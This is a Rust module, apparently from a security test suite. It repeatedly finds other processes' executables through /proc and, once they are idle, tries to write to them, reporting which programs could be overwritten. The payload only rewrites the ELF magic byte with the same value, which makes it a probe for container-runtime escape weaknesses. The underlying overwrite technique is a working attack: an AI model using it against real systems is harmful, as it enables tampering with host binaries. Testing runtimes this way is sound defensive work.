//! Overwrites the program that a process executes, once it is no longer busy.

use crate::processes::{self, Identity};
use rustix::fs::{CWD, Mode, OFlags, openat};
use std::collections::BTreeSet;
use std::fs::File;
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::FileExt;
use std::path::{Path, PathBuf};

/// A process's program, held by a descriptor that opens it again when the process is gone.
struct Target {
    handle: File,
    name: PathBuf,
}

/// Never returns without an error. The report gets a line `wrote NAME` or `refused NAME: ERROR`
/// for each program. What is written is the first byte of every ELF program, so that a runtime
/// that gives way still works.
pub(crate) fn overwrite_all(report: &Path) -> io::Result<()> {
    let mut report = processes::report(report)?;
    let mut known = BTreeSet::from([Identity::of(Path::new("/proc/self/exe"))?]);
    let mut targets = Vec::new();
    loop {
        for pid in processes::others()? {
            targets.extend(hold(pid, &mut known));
        }
        targets.retain(|target| match overwrite(target) {
            None => true,
            Some(line) => {
                // A report that can't be written shows as an attack that never succeeds.
                let _ = report.write_all(line.as_bytes());
                false
            }
        });
    }
}

fn hold(pid: i32, known: &mut BTreeSet<Identity>) -> Option<Target> {
    let path = format!("/proc/{pid}/exe");
    let name = std::fs::read_link(&path).unwrap_or_default();
    let fd = openat(CWD, &path, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()).ok()?;
    let handle = File::from(fd);
    known
        .insert(Identity::of_file(&handle).ok()?)
        .then_some(Target { handle, name })
}

/// `None` while the program is executed by anyone.
fn overwrite(target: &Target) -> Option<String> {
    let path = format!("/proc/self/fd/{}", target.handle.as_raw_fd());
    let name = target.name.display();
    let result = File::options()
        .write(true)
        .open(path)
        .and_then(|file| file.write_all_at(b"\x7f", 0));
    match result {
        Ok(()) => Some(format!("wrote {name}\n")),
        Err(error) if error.kind() == io::ErrorKind::ExecutableFileBusy => None,
        Err(error) => Some(format!("refused {name}: {error}\n")),
    }
}
